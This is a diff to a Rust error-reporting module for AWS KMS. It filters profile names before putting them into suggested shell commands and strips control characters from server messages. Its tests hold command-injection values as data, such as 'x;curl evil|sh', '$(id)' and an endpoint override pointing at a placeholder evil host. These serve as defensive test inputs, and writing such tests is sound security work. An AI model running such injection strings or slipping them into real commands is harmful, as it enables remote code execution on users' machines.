@@ -9,7 +9,7 @@ use aws_sdk_kms::error::{ProvideErrorMetadata, SdkError};
 
 use super::connections::Place;
 use super::limit::TooLong;
-use crate::keys::{Cause, KeyError, ServiceError};
+use crate::keys::{Cause, KeyError, ServiceError, said};
 
 /// What was asked, of which key and where.
 #[derive(Clone, Debug)]
@@ -45,13 +45,13 @@ impl Asked {
             SdkError::TimeoutError(_) => self.timed_out("there was no answer in time"),
             SdkError::DispatchFailure(failure) if failure.is_timeout() => self.timed_out(last),
             SdkError::DispatchFailure(failure) if failure.is_io() => {
-                let text = format!("{} cannot be reached: {}", self.server(), line(last));
+                let text = format!("{} cannot be reached: {}", self.server(), said(last));
                 ServiceError::new(Cause::Unreachable, text).with_remedy(
                     "check the network, the region of the key, and AWS_ENDPOINT_URL if it is set",
                 )
             }
             SdkError::ResponseError(_) => self.answer(last),
-            _ => ServiceError::new(Cause::Other, format!("{} was not asked: {}", self.server(), line(last))),
+            _ => ServiceError::new(Cause::Other, format!("{} was not asked: {}", self.server(), said(last))),
         }
     }
 
@@ -79,8 +79,8 @@ impl Asked {
         let (server, region) = (self.server(), &place.region);
         match code {
             "AccessDenied" | "AccessDeniedException" | "NotAuthorized" | "UnauthorizedOperation" => {
-                let said = if message.is_empty() { String::new() } else { format!(": {}", line(message)) };
-                ServiceError::new(Cause::Denied, format!("{server} denies {action}{said}"))
+                let why = if message.is_empty() { String::new() } else { format!(": {}", said(message)) };
+                ServiceError::new(Cause::Denied, format!("{server} denies {action}{why}"))
                     .with_remedy(format!("allow {action} on {arn}, in the policy of the key or of who asks"))
             }
             code if EXPIRED.contains(&code) => self.expired(code),
@@ -92,14 +92,14 @@ impl Asked {
             "NotFoundException" => ServiceError::new(Cause::Key, format!("{server} does not know the key"))
                 .with_remedy(format!("check the region and the account in {arn}")),
             "DisabledException" | "KMSInvalidStateException" | "KeyUnavailableException" => {
-                let text = format!("the key cannot be used: {code}: {}", line(message));
+                let text = format!("the key cannot be used: {code}: {}", said(message));
                 ServiceError::new(Cause::Key, text).with_remedy(format!(
                     "see its state: aws kms describe-key --region {region} --key-id {arn}"
                 ))
             }
             "InvalidKeyUsageException" => ServiceError::new(
                 Cause::Key,
-                format!("the key is not one to encrypt with: {}", line(message)),
+                format!("the key is not one to encrypt with: {}", said(message)),
             ),
             "InvalidCiphertextException" | "IncorrectKeyException" => {
                 let text = "what is wrapped was not wrapped with this key under this encryption context, or was changed";
@@ -109,7 +109,7 @@ impl Asked {
                 ServiceError::new(Cause::Other, format!("{server} gets too many requests: {code}"))
                     .with_remedy("try again later")
             }
-            _ => ServiceError::new(Cause::Other, format!("{server} answers {code}: {}", line(message))),
+            _ => ServiceError::new(Cause::Other, format!("{server} answers {code}: {}", said(message))),
         }
     }
 
@@ -127,11 +127,11 @@ impl Asked {
         }
         let (text, remedy) = match &self.place.role {
             Some(role) => (
-                format!("the role {role} cannot be assumed: {}", line(why)),
+                format!("the role {role} cannot be assumed: {}", said(why)),
                 format!("allow sts:AssumeRole on {role}, in its trust policy and to who asks"),
             ),
             None => (
-                format!("the credentials of AWS cannot be had: {}", line(why)),
+                format!("the credentials of AWS cannot be had: {}", said(why)),
                 format!("see what `aws sts get-caller-identity{}` says", self.profile()),
             ),
         };
@@ -145,22 +145,29 @@ impl Asked {
 
     fn log_in(&self) -> String {
         match &self.place.profile {
-            Some(_) => format!("run `aws sso login{0}` or `aws configure{0}`", self.profile()),
+            Some(_) => {
+                format!(
+                    "run `aws sso login{0}` or `aws configure{0}`, for the profile of the key",
+                    self.profile()
+                )
+            }
             None => "run `aws sso login`, or set AWS_PROFILE, or AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY"
                 .to_owned(),
         }
     }
 
+    /// Returns the flag for the profile, unless a shell would take the name for something else: it comes from a file.
     fn profile(&self) -> String {
-        self.place.profile.as_ref().map(|profile| format!(" --profile {profile}")).unwrap_or_default()
+        let profile = self.place.profile.as_deref().filter(|profile| is_word(profile));
+        profile.map(|profile| format!(" --profile {profile}")).unwrap_or_default()
     }
 
     fn timed_out(&self, why: &str) -> ServiceError {
-        ServiceError::new(Cause::Timeout, format!("{}: {}", self.server(), line(why)))
+        ServiceError::new(Cause::Timeout, format!("{}: {}", self.server(), said(why)))
     }
 
     fn answer(&self, why: &str) -> ServiceError {
-        ServiceError::new(Cause::Answer, format!("the answer is not one of {}: {}", self.server(), line(why)))
+        ServiceError::new(Cause::Answer, format!("the answer is not one of {}: {}", self.server(), said(why)))
     }
 
     fn server(&self) -> String {
@@ -179,21 +186,22 @@ fn chain<'a>(error: &'a (dyn Error + 'static)) -> Vec<&'a (dyn Error + 'static)>
     .collect()
 }
 
-/// Returns the first line of a text, as far as people read.
-fn line(text: &str) -> String {
-    text.lines().next().unwrap_or_default().chars().take(LENGTH).collect()
+/// Returns whether a shell takes a text for one word without a meaning of its own.
+fn is_word(text: &str) -> bool {
+    text.starts_with(|letter: char| letter.is_ascii_alphanumeric())
+        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"/_+=,.@:-".contains(&byte))
 }
 
 /// Returns why there are no credentials, out of a list of what came of each source of them.
 fn attempts(text: &str) -> String {
     if text.lines().count() < 2 {
-        return line(text);
+        return said(text);
     }
     let profile = text.lines().find_map(|line| line.split_once("Profile: "));
     let why = profile.map_or("", |(_, why)| why.trim_start_matches(CREDENTIALS[0]).trim_start_matches(": "));
     match why {
         "" => "neither the environment, the AWS configuration nor this machine has any".to_owned(),
-        why => line(why),
+        why => said(why),
     }
 }
 
@@ -226,5 +234,30 @@ const INVALID: [&str; 9] = [
 const THROTTLED: [&str; 4] =
     ["LimitExceededException", "RequestLimitExceeded", "Throttling", "ThrottlingException"];
 
-/// How much of a message people are told, in characters.
-const LENGTH: usize = 300;
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn asked(profile: &str) -> Asked {
+        let place = Place { region: "eu-west-1".to_owned(), role: None, profile: Some(profile.to_owned()) };
+        Asked { action: "kms:Decrypt", arn: "arn:aws:kms:eu-west-1:1:key/x".to_owned(), place }
+    }
+
+    #[test]
+    fn commands_name_profiles_that_are_one_word() {
+        let told = |profile: &str| asked(profile).expired("ExpiredToken").remedy.expect("a remedy");
+        assert!(told("a-b.c").contains("`aws sso login --profile a-b.c`"), "{}", told("a-b.c"));
+        for profile in
+            ["x;curl evil|sh", "$(id)", "a b", "`id`", "x\n", "--endpoint-url=http://evil", "", "ä"]
+        {
+            let told = told(profile);
+            assert!(told.contains("`aws sso login`") && told.contains("`aws configure`"), "{told}");
+        }
+    }
+
+    #[test]
+    fn what_servers_say_is_one_line_without_control_characters() {
+        let error = asked("a").refused("AccessDenied", "a\u{1b}[31mb\n\u{202e}c");
+        assert!(error.detail.ends_with("denies kms:Decrypt: a [31mb c"), "{error}");
+    }
+}
